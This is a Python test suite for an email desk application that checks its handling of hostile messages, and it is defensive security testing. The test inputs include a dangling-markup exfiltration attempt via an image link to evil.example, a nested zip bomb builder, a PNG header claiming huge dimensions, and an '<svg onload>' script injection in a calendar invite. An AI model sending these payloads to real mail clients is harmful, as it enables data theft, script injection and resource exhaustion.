"""Hostile mail once more, through the whole desk: taken in, shown, searched, handed out."""

import base64
import datetime as dt
import io
import zipfile

import pytest

from ashore.store.models import Attachment, Message, Obligation
from ashore.usecases.queries.conversation import conversation
from ashore.usecases.queries.downloads import attachment, message_html, raw_bytes
from ashore.usecases.queries.finding import find
from ashore.usecases.rebuilding import derived_rows, rebuild

HEAD = b"From: Eva <eva@client.example>\nTo: anna@studio.example\nDate: Fri, 16 Jan 2026 08:00:00 +0000\n"
BOUND = b"MIME-Version: 1.0\nContent-Type: multipart/%s; boundary=b\n\n"


def parts(kind: bytes, *each: bytes, subject: bytes = b"Subject: Site\n") -> bytes:
    return HEAD + subject + BOUND % kind + b"".join(b"--b\n" + part + b"\n" for part in each) + b"--b--\n"


def shown(workspace, row: Message, now: dt.datetime) -> str:
    page = conversation(workspace=workspace, id=row.conversation_id, now=now)
    return " ".join(str(message) for message in page.messages)


def test_h47_headers_too_long_and_folded_by_tabs_are_shown_whole(workspace, arrive, now):
    words = b"\n\t".join(b"word%d" % n for n in range(300))
    raw = HEAD + b"Subject: " + words + b"\nX-Long: " + b"x" * 5000 + b"\n\nHow much is it?\n"
    row = Message.objects.get(pk=arrive(raw))
    assert row.subject.startswith("word0 word1 word2")
    assert "\n" not in row.subject and "\t" not in row.subject
    assert "How much is it?" in shown(workspace, row, now)
    assert raw_bytes(row.raw) == raw


def test_h48_of_two_subjects_the_first_is_shown_and_both_are_kept(workspace, arrive):
    raw = HEAD + b"Subject: The first\nSubject: The second\nTo: ben@studio.example\n\nHow much is it?\n"
    row = Message.objects.get(pk=arrive(raw))
    assert row.subject == "The first"
    assert b"Subject: The second" in raw_bytes(row.raw)


def test_h59_an_open_tag_of_one_part_never_swallows_the_next(workspace, arrive, now):
    html = b"Content-Type: text/html\n\n"
    row = Message.objects.get(
        pk=arrive(
            parts(
                b"mixed",
                html + b'<p>Hello</p><img src="https://evil.example/?',
                b"Content-Type: text/plain\n\nthe secret of the house",
                html + b'"><p>end</p>',
            )
        )
    )
    page = message_html(workspace=workspace, id=row.pk) or ""
    assert "secret" not in page
    assert "evil.example" not in page
    assert "the secret of the house" in shown(workspace, row, now)


def test_h61_a_megabyte_of_style_and_outlooks_comments_leave_what_a_reader_sees(workspace, arrive, now):
    html = (
        b"<style>" + b".a{color:red}" * 80_000 + b"</style><!--[if mso]><p>only in Outlook</p><![endif]-->"
        b"<p>How much<o:p></o:p> is the menu?</p>"
    )
    row = Message.objects.get(pk=arrive(parts(b"alternative", b"Content-Type: text/html\n\n" + html)))
    assert row.new_text.split() == ["How", "much", "is", "the", "menu?"]
    assert [hit.conversation for hit in find(workspace=workspace, query="menu").rows] == [row.conversation_id]
    assert "color:red" not in shown(workspace, row, now)


def bomb() -> bytes:
    """A zip of 100 MB of nothing, in one more zip."""
    inner, outer = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("a.bin", b"\0" * 100_000_000)
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("inner.zip", inner.getvalue())
    return outer.getvalue()


def vast_picture() -> bytes:
    """The head of a PNG of 50,000 by 50,000."""
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (50_000).to_bytes(4, "big") * 2 + b"\x08\x06\x00\x00\x00"


@pytest.mark.parametrize(("name", "content"), [("a.zip", bomb()), ("a.png", vast_picture())])
def test_h66_nothing_is_unpacked_on_its_way_in_or_out(workspace, arrive, monkeypatch, name, content):
    def never(*_: object, **__: object) -> None:
        raise AssertionError("unpacked")

    monkeypatch.setattr(zipfile, "ZipFile", never)
    file = (
        b"Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=%s\n"
        b"Content-Transfer-Encoding: base64\n\n" % name.encode()
    ) + base64.encodebytes(content)
    row = Message.objects.get(pk=arrive(parts(b"mixed", b"Content-Type: text/plain\n\nHere it is.", file)))
    given = attachment(workspace=workspace, id=Attachment.objects.get(message=row).pk)
    assert (given.name, given.content) == (name, content)


def test_h70_an_invitation_with_markup_is_text_at_the_desk(workspace, arrive, now):
    event = (
        b"Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:Kick-off\n"
        b"DTSTART;TZID=Europe/Bratislava:20260205T100000\nDESCRIPTION:<svg onload=alert(1)><b>bring the brief</b>\n"
        b"END:VEVENT\nEND:VCALENDAR"
    )
    row = Message.objects.get(pk=arrive(parts(b"mixed", event)))
    assert "Kick-off" in shown(workspace, row, now)
    assert message_html(workspace=workspace, id=row.pk) is None
    given = attachment(workspace=workspace, id=Attachment.objects.get(message=row).pk)
    assert given.type == "application/octet-stream"


@pytest.mark.parametrize("subject", ["Out of Office: New site", "Mimo kancelárie", "Автоответ: новый сайт",
                                     "Wala sa opisina", "Abwesenheitsnotiz: Neue Seite"])  # fmt: skip
def test_h72_an_absence_without_any_mark_is_owed_no_answer_and_meets_none(workspace, arrive, letter, now, subject):
    asked = now - dt.timedelta(hours=3)
    ours = letter(1, "When can you send the texts?", sender="Anna <anna@studio.example>", to="eva@client.example",
                  at=asked)  # fmt: skip
    arrive(ours)
    before = set(Obligation.objects.values_list("anchor", "kind", "state"))
    row = Message.objects.get(pk=arrive(letter(2, "I am away. When is it urgent?", subject=subject, after=1)))
    assert row.kind == "auto_reply"
    assert set(Obligation.objects.values_list("anchor", "kind", "state")) == before


def test_hostile_letters_are_the_same_after_a_rebuild(workspace, arrive, now):
    """H47, H48: what was made of them does not depend on when they were read."""
    arrive(HEAD + b"Subject: One\nSubject: Two\n\nHow much is it?\n")
    arrive(HEAD + b"Subject: a\n\tb\nX-Long: " + b"x" * 5000 + b"\n\nHow much is it?\n")
    before = derived_rows()
    rebuild(now=now, processes=0)
    assert derived_rows() == before
